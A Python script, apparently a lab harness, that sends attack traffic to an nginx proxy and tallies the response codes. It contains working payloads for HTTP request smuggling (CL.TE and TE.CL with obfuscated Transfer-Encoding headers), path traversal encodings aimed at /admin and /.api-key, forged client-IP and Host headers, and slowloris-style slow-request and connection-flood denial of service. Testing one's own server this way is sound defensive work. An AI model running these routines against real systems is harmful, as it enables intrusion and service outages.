"""Attempts on nginx, counted: run on a host of the lab, by its own Python, from standard input.

    python attacker.py ADDRESS NAME ATTACK      prints {"tried": N, "outcomes": {"400": N, ...}}

An outcome is the status of each answer on a connection ("200", or "200 200" for two), "closed"
for an end without an answer, or "open" where nothing came and the connection stayed.
It asks nobody but ADDRESS, so many times as ATTACKS says, and stops by itself.
"""

import asyncio
import json
import re
import resource
import sys
from collections import Counter
from collections.abc import Awaitable, Callable

ANSWER_SECONDS = 20.0
KEPT_OPEN_SECONDS = 4.0  # where a second answer may come on the same connection
SLOW_SECONDS = 40.0
CROWD = 10_000
HURRY = 2500
SLOW_REQUESTS = 500
STREAM = "/v1/stream/asr"
_STATUS = re.compile(rb"HTTP/1\.[01] (\d{3})")

Outcomes = Counter[str]


def request(
    path: str, *headers: str, host: str | None, method: str = "GET", body: str = ""
) -> bytes:
    """A request as it is, however wrong."""
    first = [f"{method} {path} HTTP/1.1", *([f"Host: {host}"] if host is not None else [])]
    return ("\r\n".join([*first, *headers]) + "\r\n\r\n" + body).encode("latin-1")


async def exchange(address: str, payload: bytes, seconds: float = ANSWER_SECONDS) -> str:
    """What comes back for a payload until the connection is closed, or for so long."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(address, 80), 10)
    except OSError:
        return "refused"
    seen, ended = b"", False
    try:
        writer.write(payload)
        await writer.drain()
        async with asyncio.timeout(seconds):
            while chunk := await reader.read(65536):
                seen += chunk
        ended = True
    except TimeoutError:
        pass
    except OSError:
        ended = True
    finally:
        writer.close()
    return " ".join(code.decode() for code in _STATUS.findall(seen)) or (
        "closed" if ended else "open"
    )


def bare_address(address: str, name: str) -> list[bytes]:
    """The address in the place of a name, or no name at all."""
    del name
    hosts = [address, f"{address}:80", "127.0.0.1", "localhost", "_", "0", "[::1]"]
    old = b"GET /health HTTP/1.0\r\n\r\n"
    return [*[request("/health", host=host) for host in hosts], old] * 3


def unknown_name(address: str, name: str) -> list[bytes]:
    """Names that are no service's."""
    del address
    zone = name.partition(".")[2]
    hosts = [f"x.{name}", f"{name}.evil.test", f"evil-{name}", zone, f"www.{zone}", "evil.test"]
    return [request("/health", host=host) for host in hosts] * 4


def duplicate_name(address: str, name: str) -> list[bytes]:
    """Two lines Host."""
    del address
    pairs = [(name, name), (name, "evil.test"), ("evil.test", name), (name, "")]
    return [request("/health", f"Host: {second}", host=first) for first, second in pairs] * 5


def legal_name(address: str, name: str) -> list[bytes]:
    """Unusual, and legal: these are to be served."""
    del address
    hosts = [f"{name}:80", name.upper(), f"{name}."]
    close = "Connection: close"
    whole = [request(f"http://{name}/health", close, host=host) for host in (name, "evil.test")]
    return [*[request("/health", close, host=host) for host in hosts], *whole]


def oversized(address: str, name: str) -> list[bytes]:
    """More header, or a longer path, than anybody needs."""
    del address
    many = [f"X-{number}: {'x' * 1000}" for number in range(100)]
    return [
        request("/health", f"X-Long: {'x' * 16_000}", host=name),
        request("/health", f"Cookie: {'x' * 60_000}", host=name),
        request("/health", *many, host=name),
        request(f"/health?{'x' * 16_000}", host=name),
        request("/health", f"{'X' * 16_000}: x", host=name),
    ] * 4


def smuggling(address: str, name: str) -> list[bytes]:
    """Requests whose end two servers might see in two places; what is hidden asks /smuggled."""
    del address
    hidden = f"GET {STREAM}/smuggled HTTP/1.1\r\nHost: {name}\r\n\r\n"
    chunked = "Transfer-Encoding: chunked"
    short = f"Content-Length: {len(hidden) + 5}"
    encodings = [
        *("Transfer-Encoding: chunked", "Transfer-Encoding : chunked"),
        *("Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity"),
        *("Transfer-Encoding:\tchunked", "Transfer-Encoding: identity"),
        "X: x\r\n Transfer-Encoding: chunked",
    ]
    size = f"{len(hidden):x}"
    # CL.TE: the length reaches over the hidden request, the chunks end before it.
    over = (short, f"0\r\n\r\n{hidden}")
    # TE.CL: the chunks reach over it, the length ends before it.
    under = (f"Content-Length: {len(size) + 2}", f"{size}\r\n{hidden}\r\n0\r\n\r\n")
    whole = f"Content-Length: {len(hidden)}"
    shapes = [([length, one], body) for one in encodings for length, body in (over, under)]
    shapes += [
        (["Content-Length: 0", whole], hidden),
        ([whole.replace(": ", ": +")], hidden),
        ([chunked, chunked], f"0\r\n\r\n{hidden}"),
    ]
    return [
        request(path, *headers, host=name, method="POST", body=body)
        for path in ("/health", STREAM)
        for headers, body in shapes
    ]


def traversal(address: str, name: str) -> list[bytes]:
    """Ways around the paths of a service, to one it does not publish."""
    del address
    ways = [
        *("..", "%2e%2e", ".%2e", "%2E%2E", "..;", "..%00", "%252e%252e", "..%2f..", "..%5c.."),
        *("..\\..", ".", "", "%2e", "..%c0%af..", "..%ef%bc%8f.."),
    ]
    bases = [f"{STREAM}/", "/health/", f"{STREAM}x/"]
    paths = [f"{base}{way}/admin" for base in bases for way in ways]
    paths += ["/", "/admin", "//health", "/HEALTH", "/v1/stream", "/.api-key", "/health%2f.."]
    return [request(path, "Connection: close", host=name) for path in paths]


def forged(address: str, name: str) -> list[bytes]:
    """A visitor who says to be somebody else."""
    del address
    lies = ["CF-Connecting-IP", "X-Forwarded-For", "True-Client-IP", "X-Real-IP", "Forwarded"]
    return [
        request("/health/forged", f"{header}: {value}", "Connection: close", host=name)
        for header in lies
        for value in ("6.6.6.6", "127.0.0.1", "198.51.100.10")
    ]


def evil_service(address: str, name: str) -> list[bytes]:
    """Asks a service that answers with more header than there may be, or with no end of it."""
    del address
    evil = f"evil.{name.partition('.')[2]}"
    kinds = ("huge", "many", "endless")
    close = "Connection: close"
    return [request(f"/v1/stream/evil/{kind}", close, host=evil) for kind in kinds] * 10


PAYLOADS: dict[str, Callable[[str, str], list[bytes]]] = {
    "bare_address": bare_address,
    "unknown_name": unknown_name,
    "duplicate_name": duplicate_name,
    "legal_name": legal_name,
    "oversized": oversized,
    "smuggling": smuggling,
    "traversal": traversal,
    "forged": forged,
    "evil_service": evil_service,
}


async def each(address: str, payloads: list[bytes], seconds: float) -> Outcomes:
    """Every payload on a connection of its own, twenty at a time."""
    room = asyncio.Semaphore(20)

    async def one(payload: bytes) -> str:
        async with room:
            return await exchange(address, payload, seconds)

    return Counter(await asyncio.gather(*map(one, payloads)))


async def drip(address: str, first: bytes, every: float) -> str:
    """Begin a request, and send a byte more now and then: until the server has had enough."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(address, 80), 10)
    except OSError:
        return "refused"
    try:
        writer.write(first)
        async with asyncio.timeout(SLOW_SECONDS):
            read = asyncio.create_task(reader.read(65536))
            while not (await asyncio.wait([read], timeout=every))[0]:
                writer.write(b"x")
            found = _STATUS.match(read.result())
            return found[1].decode() if found else "closed"
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"
    finally:
        writer.close()


async def slow_headers(address: str, name: str) -> Outcomes:
    """Hundreds of requests whose header has no end."""
    first = f"GET /health HTTP/1.1\r\nHost: {name}\r\nX-Slow: ".encode()
    return Counter(await asyncio.gather(*[drip(address, first, 1) for _ in range(SLOW_REQUESTS)]))


async def slow_bodies(address: str, name: str) -> Outcomes:
    """Hundreds of requests whose body does not come."""
    length = "Content-Length: 5000"
    first = request("/health", length, host=name, method="POST", body="x")
    return Counter(await asyncio.gather(*[drip(address, first, 20) for _ in range(SLOW_REQUESTS)]))


async def crowd(address: str, name: str) -> Outcomes:
    """Ten thousand connections of one address, half of them in the middle of a request."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    held: list[asyncio.StreamWriter] = []
    outcomes: Outcomes = Counter()

    async def one(number: int) -> None:
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(address, 80), 10)
        except (OSError, TimeoutError):
            outcomes["refused"] += 1
            return
        if number % 2:
            writer.write(f"GET /health HTTP/1.1\r\nHost: {name}\r\n".encode())
        outcomes["opened"] += 1
        held.append(writer)

    for start in range(0, CROWD, 250):
        await asyncio.gather(*[one(number) for number in range(start, start + 250)])
    print(json.dumps({"crowd": len(held)}), flush=True)
    await asyncio.sleep(5)  # an attack lasts; nothing is waited for
    for writer in held:
        writer.close()
    return outcomes


async def hurry(address: str, name: str) -> Outcomes:
    """More requests at once than `limits.burst`, pipelined: each answer is counted."""
    each = 50
    asked = request("/metrics", host=name) * (each - 1)
    last = request("/metrics", "Connection: close", host=name)
    answers = await asyncio.gather(*[exchange(address, asked + last) for _ in range(HURRY // each)])
    return Counter(code for answer in answers for code in answer.split())


SLOW: dict[str, Callable[[str, str], Awaitable[Outcomes]]] = {
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "crowd": crowd,
    "hurry": hurry,
}


async def attack(address: str, name: str, kind: str) -> Outcomes:
    """One of PAYLOADS or SLOW."""
    if kind in SLOW:
        return await SLOW[kind](address, name)
    seconds = KEPT_OPEN_SECONDS if kind == "smuggling" else ANSWER_SECONDS
    return await each(address, PAYLOADS[kind](address, name), seconds)


if __name__ == "__main__":
    where, whom, which = sys.argv[1:]
    result = asyncio.run(attack(where, whom, which))
    print(json.dumps({"tried": sum(result.values()), "outcomes": result}))
